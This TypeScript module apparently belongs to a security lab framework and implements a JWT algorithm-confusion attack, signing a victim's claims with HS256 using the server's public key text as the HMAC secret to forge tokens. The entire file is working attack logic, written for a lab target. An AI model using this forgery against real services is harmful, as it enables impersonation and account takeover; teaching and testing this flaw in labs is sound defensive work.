import { signWithSecret } from '@/lib/lab/world/jwt'
import type { Attack, TokenTarget } from './target'

/** The victim's claims, signed with the public key's text as if it were a secret. */
export const attack: Attack<TokenTarget> = async ({ victimsClaims, header, publicKey, readsVictim }) => {
  const secret = await publicKey()
  return readsVictim(signWithSecret({ ...(await header()), alg: 'HS256' }, await victimsClaims(), secret))
}
